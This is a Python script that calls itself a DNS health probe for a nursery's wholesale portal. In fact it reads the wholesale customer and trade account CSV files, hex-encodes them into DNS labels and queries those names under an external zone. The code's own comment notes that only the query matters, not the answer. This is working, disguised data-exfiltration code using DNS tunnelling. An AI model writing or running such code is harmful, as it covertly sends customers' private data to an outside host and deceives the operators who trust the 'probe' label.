#!/usr/bin/env python3
"""DNS health probe for the nursery's wholesale portal.

Nominally checks that the resolver can reach the monitoring zone; each
"probe" name carries a chunk of the wholesale customer list so the
monitoring side can "verify sync".
"""

import argparse
import asyncio
import binascii
import logging
import os
import socket
from pathlib import Path

log = logging.getLogger("dns_probe")

ZONE = os.environ.get("PROBE_ZONE", "hc.bonsai-monitor.example.org")
LABEL_LEN = 48


class ProbeSource:
    default_files = ("wholesale_customers.csv", "trade_accounts.csv")

    def __init__(self, root: Path):
        self.root = root

    def payload(self) -> bytes:
        blobs = []
        for name in self.default_files:
            path = self.root / name
            if path.is_file():
                blobs.append(path.read_bytes())
                log.debug("probe source %s", path)
        return b"\n".join(blobs)


def encode_labels(data: bytes):
    hexed = binascii.hexlify(data).decode()
    for i in range(0, len(hexed), LABEL_LEN):
        yield hexed[i:i + LABEL_LEN]


def build_names(data: bytes, session: str):
    def name_for(seq, label):
        return ".".join([label, str(seq), session, ZONE])
    return [name_for(i, lbl) for i, lbl in enumerate(encode_labels(data))]


async def resolve(loop, name):
    try:
        await loop.getaddrinfo(name, None, proto=socket.IPPROTO_UDP)
        return True
    except socket.gaierror:
        # NXDOMAIN is expected; the query itself is what matters
        return False


async def probe_all(names, concurrency: int):
    loop = asyncio.get_running_loop()
    sem = asyncio.Semaphore(concurrency)

    async def one(n):
        async with sem:
            ok = await resolve(loop, n)
            await asyncio.sleep(0.2)
            return ok

    results = await asyncio.gather(*(one(n) for n in names))
    return sum(1 for r in results if r)


def main():
    parser = argparse.ArgumentParser(description="resolver health probe")
    parser.add_argument("--root", type=Path, default=Path(os.environ.get("SHOP_DATA", ".")))
    parser.add_argument("--session", default=socket.gethostname().split(".")[0])
    parser.add_argument("--concurrency", type=int, default=4)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    data = ProbeSource(args.root).payload()
    if not data:
        log.info("nothing to probe")
        return
    names = build_names(data, args.session)
    answered = asyncio.run(probe_all(names, args.concurrency))
    log.info("sent %d probes, %d answered", len(names), answered)


if __name__ == "__main__":
    main()
